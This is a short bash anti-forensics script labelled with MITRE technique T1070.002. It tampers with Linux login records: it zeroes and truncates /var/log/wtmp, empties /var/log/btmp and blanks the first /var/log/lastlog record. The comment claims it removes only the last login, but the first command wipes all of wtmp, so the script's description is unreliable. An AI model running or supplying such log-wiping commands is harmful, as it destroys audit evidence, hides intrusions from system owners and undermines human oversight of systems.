#!/bin/bash
# T1070.002: The last login is cut out of the records.
head -c 3840 /dev/zero >/var/log/wtmp; truncate -s -384 /var/log/wtmp; python3 -c '
d=open("/var/log/wtmp","rb").read()
open("/var/log/wtmp","wb").write(d[:-384])'
: >/var/log/btmp; dd if=/dev/zero of=/var/log/lastlog bs=292 count=1 conv=notrunc status=none
